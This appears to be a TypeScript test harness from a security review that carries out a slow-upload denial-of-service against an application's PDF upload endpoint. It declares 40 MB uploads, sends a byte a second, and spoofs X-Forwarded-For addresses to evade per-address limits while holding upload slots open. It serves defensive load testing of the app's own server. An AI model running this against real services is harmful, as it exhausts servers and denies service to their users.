// M3 of the security review of 2026-12-01, for bench/abuse.ts: uploads that declare 40 MB and
// send a byte a second, each holding an upload place for as long as the server lets it.
import { connect } from 'node:net';
import type { Tally } from './pdf-attacks';

const declaredBytes = 40_000_000;

/**
 * One slow upload as `cookie`, from `address`: the request line, the headers and `%PDF-1.7`, then a
 * byte a second. Resolves with the server's status, 0 when it closed the connection without
 * answering, or -1 when it was still holding the upload at `until` (then the upload is dropped).
 */
function slowUpload(base: string, cookie: string, address: string, until: number): Promise<number> {
  const url = new URL(base);
  return new Promise((resolve) => {
    const socket = connect(Number(url.port), url.hostname);
    let settled = false;
    const finish = (status: number) => {
      if (settled) return;
      settled = true;
      clearInterval(dribble);
      clearTimeout(deadline);
      socket.destroy();
      resolve(status);
    };
    socket.setEncoding('latin1');
    socket.on('error', () => finish(0));
    socket.on('close', () => finish(0));
    let head = '';
    socket.on('data', (chunk: string) => {
      head += chunk;
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(head);
      if (status) finish(Number(status[1]));
    });
    socket.write(
      [
        'POST /api/contracts/upload-pdf?name=slow.pdf HTTP/1.1',
        `Host: ${url.host}`,
        `Cookie: ${cookie}`,
        'Content-Type: application/pdf',
        `Content-Length: ${declaredBytes}`,
        `X-Forwarded-For: ${address}`,
        '',
        '%PDF-1.7\n',
      ].join('\r\n'),
    );
    const dribble = setInterval(() => socket.write('%'), 1000);
    const deadline = setTimeout(() => finish(-1), Math.max(0, until - performance.now()));
  });
}

/**
 * Each holder keeps `perHolder` slow uploads open until `phaseMs` has passed: when the server
 * answers one (or closes it), that holder opens another a second later, as an attacker retaking
 * the place would. Tallies every answer ("held" for those still open at the end); returns how
 * many uploads were opened.
 */
export async function holdUploadPlaces(options: {
  base: string;
  holders: string[];
  perHolder: number;
  phaseMs: number;
  freshAddress: () => string;
  answers: Tally;
}): Promise<number> {
  const until = performance.now() + options.phaseMs;
  let opened = 0;
  const holding = async (cookie: string) => {
    while (performance.now() < until) {
      opened += 1;
      const status = await slowUpload(options.base, cookie, options.freshAddress(), until);
      options.answers.add('slow upload', status === -1 ? 'held to the end' : status);
      if (performance.now() < until) await new Promise((resolve) => setTimeout(resolve, 1000));
    }
  };
  await Promise.all(
    options.holders.flatMap((cookie) => Array.from({ length: options.perHolder }, () => holding(cookie))),
  );
  return opened;
}
